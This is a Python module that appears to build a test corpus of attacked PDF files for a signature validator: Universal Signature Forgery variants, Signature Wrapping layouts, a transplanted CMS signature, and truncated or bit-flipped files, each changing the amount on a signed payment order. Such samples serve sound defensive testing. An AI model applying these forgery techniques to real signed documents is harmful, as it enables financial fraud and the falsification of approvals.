"""Byte-level attacks: Universal Signature Forgery, Signature Wrapping, damaged files.

All start from the payment order signed by the finance seal (``signed_order``): one revision of
content, one signature revision written by our signer (pyHanko puts /Contents first in the
signature dictionary and /ByteRange right after it, then /Type, /Filter, …, so the /ByteRange
text lies in the second signed part — the precondition of signature wrapping).
"""

from __future__ import annotations

import hashlib
import re
from collections.abc import Callable
from typing import Any

from asn1crypto import cms as asn1_cms

from . import bases as B
from . import rawpdf as R
from .kit import Kit, sample

FORGED_SAME_LENGTH = (b"(Amount: CNY 1,000.00)", b"(Amount: CNY 9,000.00)")


def signed_order(kit: Kit) -> bytes:
    """The payment order with one invisible approval signature (field Seal1), B-B."""
    return kit.once("order-signed", lambda: kit.sign(B.order(), "--field", "Seal1"))


def _forge_in_place(data: bytes) -> bytes:
    """Change the amount inside the signed bytes without moving anything (1,000 → 9,000)."""
    return R.patch(data, *FORGED_SAME_LENGTH)


def _only_sig(data: bytes) -> R.SigBytes:
    [sig] = R.signatures(data)
    return sig


# ---------------------------------------------------------------------------------------------
# Universal Signature Forgery (CCS 2019 §4): a signature dictionary a viewer cannot check


def _usf(kit: Kit, mangle: Callable[[bytes, R.SigBytes], bytes]) -> bytes:
    """The signed order with its signature dictionary mangled and the amount changed."""
    data = signed_order(kit)
    return _forge_in_place(mangle(data, _only_sig(data)))


@sample("usf_contents_missing")
def usf_contents_missing(kit: Kit) -> bytes:
    def mangle(data: bytes, sig: R.SigBytes) -> bytes:
        start = data.rindex(b"/Contents", 0, sig.contents_start)
        return R.splice(data, start, sig.contents_end, b"")

    return _usf(kit, mangle)


@sample("usf_contents_empty")
def usf_contents_empty(kit: Kit) -> bytes:
    return _usf(kit, lambda d, s: R.splice(d, s.contents_start, s.contents_end, b"<>"))


@sample("usf_contents_null")
def usf_contents_null(kit: Kit) -> bytes:
    return _usf(kit, lambda d, s: R.splice(d, s.contents_start, s.contents_end, b"null"))


@sample("usf_contents_not_cms")
def usf_contents_not_cms(kit: Kit) -> bytes:
    # a well-formed DER SEQUENCE { INTEGER 0 } where the CMS object should be
    return _usf(
        kit,
        lambda d, s: R.splice(
            d,
            s.contents_start,
            s.contents_end,
            R.hex_contents(bytes.fromhex("3003020100"), s.contents_end - s.contents_start),
        ),
    )


@sample("usf_cms_no_signer")
def usf_cms_no_signer(kit: Kit) -> bytes:
    """The real CMS with its certificates, but SignerInfos emptied: nothing to verify."""

    def mangle(data: bytes, sig: R.SigBytes) -> bytes:
        info = asn1_cms.ContentInfo.load(sig.cms(data))
        signed = info["content"]
        signed["signer_infos"] = asn1_cms.SignerInfos([])
        info = asn1_cms.ContentInfo({"content_type": "signed_data", "content": signed})
        raw = info.dump(force=True)
        width = sig.contents_end - sig.contents_start
        return R.splice(data, sig.contents_start, sig.contents_end, R.hex_contents(raw, width))

    return _usf(kit, mangle)


@sample("usf_byterange_missing")
def usf_byterange_missing(kit: Kit) -> bytes:
    return _usf(kit, lambda d, s: R.splice(d, *s.br_span, b""))


@sample("usf_byterange_null")
def usf_byterange_null(kit: Kit) -> bytes:
    return _usf(kit, lambda d, s: R.splice(d, *s.br_span, b"/ByteRange null"))


@sample("usf_byterange_zero")
def usf_byterange_zero(kit: Kit) -> bytes:
    return _usf(kit, lambda d, s: R.splice(d, *s.br_span, b"/ByteRange [0 0 0 0]"))


@sample("usf_byterange_beyond_eof")
def usf_byterange_beyond_eof(kit: Kit) -> bytes:
    def mangle(data: bytes, sig: R.SigBytes) -> bytes:
        a, b, c, _ = sig.byte_range
        return R.splice(data, *sig.br_span, b"/ByteRange [%d %d %d 99999999]" % (a, b, c))

    return _usf(kit, mangle)


@sample("usf_no_filter")
def usf_no_filter(kit: Kit) -> bytes:
    def mangle(data: bytes, sig: R.SigBytes) -> bytes:
        return R.patch(data, b"/Filter /Adobe.PPKLite", b"", start=sig.contents_end)

    return _usf(kit, mangle)


@sample("usf_stolen_cms")
def usf_stolen_cms(kit: Kit) -> bytes:
    """A document never signed (amount 9,000,000) given a signature field holding the CMS object
    of another, genuinely signed document, with a /ByteRange computed properly over the fake."""
    donor = signed_order(kit)
    stolen = _only_sig(donor).cms(donor)
    fake = B.order(B.FORGED)
    t = R.read_trailer(fake)
    sig_num, field_num, form_num = t.size, t.size + 1, t.size + 2
    catalog = R.object_body(fake, R.classic_offsets(fake)[t.root])
    catalog = catalog[:-2] + b"/AcroForm %d 0 R>>" % form_num
    width = 2 * len(stolen) + 1024
    sig_body = (
        b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/Contents "
        + R.hex_contents(stolen, width) + R.BR_PLACEHOLDER + b"/M(D:20250102090000+08'00')>>"
    )
    objs = [
        (sig_num, sig_body),
        (
            field_num,
            b"<</FT/Sig/T(Seal1)/V %d 0 R/Type/Annot/Subtype/Widget/Rect[0 0 0 0]/F 132/P 3 0 R>>"
            % sig_num,
        ),
        (form_num, b"<</Fields[%d 0 R]/SigFlags 3>>" % field_num),
        (t.root, catalog),
    ]
    out = R.append_update(fake, objs)
    start = out.index(b"/Contents <", out.index(b"%d 0 obj" % sig_num)) + len(b"/Contents ")
    return R.fill_byte_range(out, start, width)


# ---------------------------------------------------------------------------------------------
# Signature Wrapping (CCS 2019 §6): the signed bytes kept, but moved where the parser ignores them


def _wrapping_parts(data: bytes) -> dict[str, Any]:
    """What signature wrapping needs from a file with one signature covering all of it."""
    sig = _only_sig(data)
    a, b, c, d = sig.byte_range
    if c + d != len(data):
        raise ValueError("the signature must cover the whole file")
    tail_end = data.index(b"endobj", sig.br_span[1]) + len(b"endobj\n")
    entries = R.last_section_entries(data)
    if any(off >= b for off in entries.values()):
        raise ValueError("an object of the signature revision starts after /Contents")
    trailer = R.read_trailer(data)
    page_num = 3
    page = R.object_body(data, R.classic_offsets(data)[page_num])
    content_num = trailer.size
    forged_page = re.sub(rb"/Contents\s+\d+\s+0\s+R", b"/Contents %d 0 R" % content_num, page)
    return {
        "part1": data[:b],
        "part2": data[c : c + d],
        "b": b,
        "d": d,
        "startxref": R.last_startxref(data),
        "cms_hex": b"<" + sig.cms(data).hex().encode() + b">",
        "sig_tail": data[sig.br_span[1] : tail_end],  # the dictionary after /ByteRange
        "entries": entries,
        "trailer": trailer,
        "prev": R.prev_of_last(data),
        "objects": [
            (content_num, R.stream(B.order_content(B.FORGED))),
            (page_num, forged_page),
        ],
    }


def _forged_br(b: int, c: int, d: int) -> bytes:
    return b"\n/ByteRange [0 %d %010d %d]" % (b, c, d)


@sample("swa_relocated_end")
def swa_relocated_end(kit: Kit) -> bytes:
    """Classic wrapping: signed part 2 moved to the end of the file, a forged /ByteRange points
    at it; in the freed space, new objects and an xref table placed exactly where the original
    (still signed) ``startxref`` points."""
    p = _wrapping_parts(signed_order(kit))
    b, d, xref_at = p["b"], p["d"], p["startxref"]

    def layout(c_star: int) -> tuple[bytes, int]:
        out = bytearray(p["part1"] + p["cms_hex"] + _forged_br(b, c_star, d) + p["sig_tail"])
        entries = dict(p["entries"])
        for num, body in p["objects"]:
            entries[num] = len(out)
            out += R.obj(num, body)
        if len(out) > xref_at:
            raise ValueError("no room for the wrapped objects")
        out += b"%" + b" " * (xref_at - len(out) - 2) + b"\n"
        assert len(out) == xref_at
        t = p["trailer"]
        out += R.xref_section(entries)
        out += R.trailer_bytes(
            size=t.size + 1, root=t.root, info=t.info, prev=p["prev"], file_id=t.file_id
        )
        return bytes(out), len(out)

    _, c_star = layout(0)
    head, check = layout(c_star)
    assert check == c_star
    return head + p["part2"]


@sample("swa_relocated_stream")
def swa_relocated_stream(kit: Kit) -> bytes:
    """Signed part 2 wrapped inside a dummy stream object in the freed space; the forged objects
    and a new xref section are appended after it."""
    p = _wrapping_parts(signed_order(kit))
    b, d = p["b"], p["d"]
    t = p["trailer"]
    holder = t.size + 1

    def head(c_star: int) -> bytes:
        return (
            p["part1"] + p["cms_hex"] + _forged_br(b, c_star, d) + p["sig_tail"]
            + b"%d 0 obj\n<</Length %d>>\nstream\n" % (holder, d)
        )

    c_star = len(head(0))
    out = bytearray(head(c_star))
    assert len(out) == c_star
    entries = dict(p["entries"])
    entries[holder] = out.rindex(b"%d 0 obj" % holder)
    out += p["part2"] + b"\nendstream\nendobj\n"
    for num, body in p["objects"]:
        entries[num] = len(out)
        out += R.obj(num, body)
    xref_at = len(out)
    out += R.xref_section(entries)
    out += R.trailer_bytes(
        size=holder + 1, root=t.root, info=t.info, prev=p["prev"], file_id=t.file_id
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


@sample("swa_gap_objects")
def swa_gap_objects(kit: Kit) -> bytes:
    """/ByteRange untouched: the forged objects hide in the unsigned /Contents gap (behind the
    CMS, inside a /Pad string), and an appended xref-only update points at them."""
    data = signed_order(kit)
    sig = _only_sig(data)
    p = _wrapping_parts(data)
    gap = bytearray(p["cms_hex"] + b"/Pad (")
    redirect = {}
    for num, body in p["objects"]:
        redirect[num] = sig.contents_start + len(gap)
        gap += R.obj(num, body)
    gap += b")"
    out = R.splice(data, sig.contents_start, sig.contents_end, bytes(gap))
    return R.append_update(out, redirect=redirect)


# ---------------------------------------------------------------------------------------------
# damaged or appended-to files


@sample("garbage_after_eof")
def garbage_after_eof(kit: Kit) -> bytes:
    noise = hashlib.sha256(b"sealdesk corpus").digest() * 8
    return signed_order(kit) + b"\n" + noise + b"\nnot a PDF update\n"


@sample("second_eof_tail")
def second_eof_tail(kit: Kit) -> bytes:
    tail = b"% re-saved by a mail gateway\n(Amount: CNY 9,000,000.00)\n<< /Note (x) >>\n%%EOF\n"
    return signed_order(kit) + tail


@sample("truncated_half")
def truncated_half(kit: Kit) -> bytes:
    data = signed_order(kit)
    return data[: len(data) // 2]


@sample("truncated_tail")
def truncated_tail(kit: Kit) -> bytes:
    data = signed_order(kit)
    return data[: data.rindex(b"startxref")]


@sample("bitflip_content")
def bitflip_content(kit: Kit) -> bytes:
    """One bit flipped in the signed content: '1' (0x31) ^ 0x08 = '9' — CNY 9,000.00."""
    data = bytearray(signed_order(kit))
    i = data.index(b"CNY 1,000.00") + len(b"CNY ")
    data[i] ^= 0x08
    return bytes(data)


@sample("bitflip_sigdict")
def bitflip_sigdict(kit: Kit) -> bytes:
    """One bit flipped in the signed second part (the signing time /M in the dictionary)."""
    data = bytearray(signed_order(kit))
    sig = _only_sig(bytes(data))
    i = data.index(b"/M (D", sig.contents_end) + len(b"/M (D") + 6
    data[i] ^= 0x01
    return bytes(data)


@sample("not_a_pdf")
def not_a_pdf(kit: Kit) -> bytes:
    return B.not_a_pdf()


@sample("empty_file")
def empty_file(kit: Kit) -> bytes:
    return b""
